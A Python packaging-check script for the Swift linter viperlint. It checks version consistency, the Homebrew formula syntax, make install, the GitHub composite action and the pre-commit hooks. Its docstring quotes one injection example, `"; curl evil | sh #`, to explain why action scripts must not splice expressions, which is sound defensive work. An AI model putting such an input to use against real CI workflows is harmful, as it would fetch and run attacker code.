#!/usr/bin/env python3
"""Checks the ways viperlint is installed and run outside SwiftPM, as far as this machine can.

Usage: check_packaging.py  (from anywhere; needs PyYAML, ruby, make and a built debug viperlint)
- every place that names the release agrees with the compiled-in version (CHANGELOG section,
  Homebrew formula tag, the release snippets of docs/workflows.md; none in the README);
- Formula/viperlint.rb passes `ruby -c`;
- `make install PREFIX=<temp> CONFIGURATION=debug` installs a viperlint that runs;
- action.yml is a composite action whose scripts never splice `${{ }}` expressions into their
  text (an input such as `"; curl evil | sh #` must stay data), whose run steps name a shell,
  and whose references to inputs name declared inputs;
- .pre-commit-hooks.yaml declares the source-built and the installed-binary hooks.
Prints 'packaging: N passed, N failed' and exits non-zero on any failure.
"""
import os
import re
import subprocess
import sys
import tempfile

import yaml

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def read(path):
    with open(os.path.join(ROOT, path), encoding="utf-8") as handle:
        return handle.read()


def compiled_version():
    match = re.search(r'static let version = "([^"]+)"', read("Sources/ViperLintCore/ViperLint.swift"))
    if not match:
        raise AssertionError("no version in Sources/ViperLintCore/ViperLint.swift")
    return match.group(1)


def check_versions_agree():
    version = compiled_version()
    if f"## [{version}]" not in read("CHANGELOG.md"):
        raise AssertionError(f"CHANGELOG.md has no section for {version}")
    if f'tag: "v{version}"' not in read("Formula/viperlint.rb"):
        raise AssertionError(f"Formula/viperlint.rb does not build tag v{version}")
    # The ways that need a release are in docs/workflows.md ("Installing a release (once a tag
    # exists)"); the README shows only what works from a clone: no placeholder, no tag.
    workflows = read("docs/workflows.md")
    for snippet in (f"rev: v{version}", f"@v{version}", f"mint install OWNER/viperlint@{version}"):
        if snippet not in workflows:
            raise AssertionError(f"docs/workflows.md does not say '{snippet}'")
    for path in ("README.md", "docs/workflows.md"):
        stale = sorted(set(re.findall(r"rev: v(\d+\.\d+\.\d+)", read(path))) - {version})
        if stale:
            raise AssertionError(f"{path} pins other versions: {stale}")
    readme = read("README.md")
    for placeholder in ("OWNER", "rev: v"):
        if placeholder in readme:
            raise AssertionError(f"README.md says '{placeholder}': release ways belong in docs/workflows.md")


def check_formula():
    result = subprocess.run(["ruby", "-c", os.path.join(ROOT, "Formula/viperlint.rb")], capture_output=True, text=True)
    if result.returncode != 0 or "Syntax OK" not in result.stdout:
        raise AssertionError(f"ruby -c: {result.stdout}{result.stderr}")


def check_make_install():
    with tempfile.TemporaryDirectory() as prefix:
        result = subprocess.run(["make", "-C", ROOT, "install", f"PREFIX={prefix}", "CONFIGURATION=debug"],
                                capture_output=True, text=True)
        if result.returncode != 0:
            raise AssertionError(f"make install: {result.stderr[-500:]}")
        binary = os.path.join(prefix, "bin", "viperlint")
        if not os.access(binary, os.X_OK):
            raise AssertionError(f"{binary} is not installed as an executable")
        version = subprocess.run([binary, "--version"], capture_output=True, text=True).stdout.strip()
        if version != compiled_version():
            raise AssertionError(f"the installed viperlint says '{version}'")
        lint = subprocess.run([binary, "lint", os.path.join(ROOT, "Fixtures/ClassicVIPER"), "--quiet", "--no-cache"],
                              capture_output=True, text=True)
        if lint.returncode != 1 or "[layer-dependency]" not in lint.stdout:
            raise AssertionError(f"the installed viperlint did not find the fixture's violations (exit {lint.returncode})")


def check_action():
    action = yaml.safe_load(read("action.yml"))
    if action.get("runs", {}).get("using") != "composite":
        raise AssertionError("action.yml is not a composite action")
    declared = set(action.get("inputs", {}))
    steps = action["runs"]["steps"]
    for step in steps:
        if "run" in step:
            if "shell" not in step:
                raise AssertionError(f"step '{step.get('name')}' has no shell")
            if "${{" in step["run"]:
                raise AssertionError(f"step '{step.get('name')}' splices an expression into its script")
    used = set(re.findall(r"inputs\.([A-Za-z0-9_-]+)", yaml.safe_dump(steps) + yaml.safe_dump(action.get("outputs", {}))))
    if used - declared:
        raise AssertionError(f"undeclared inputs used: {sorted(used - declared)}")
    if not any(step.get("uses", "").startswith("github/codeql-action/upload-sarif@") for step in steps):
        raise AssertionError("action.yml does not upload the SARIF report")


def check_pre_commit_hooks():
    hooks = {hook["id"]: hook for hook in yaml.safe_load(read(".pre-commit-hooks.yaml"))}
    expected = {"viperlint": "swift", "viperlint-system": "system"}
    for hook_id, language in expected.items():
        hook = hooks.get(hook_id)
        if not hook or hook.get("language") != language or not hook.get("entry", "").startswith("viperlint lint"):
            raise AssertionError(f"hook '{hook_id}' is missing or not language: {language}")


def main():
    passed, failed = 0, 0
    for check in (check_versions_agree, check_formula, check_make_install, check_action, check_pre_commit_hooks):
        try:
            check()
            passed += 1
        except Exception as error:  # report every check, then fail
            print(f"{check.__name__}: {error}", file=sys.stderr)
            failed += 1
    print(f"packaging: {passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
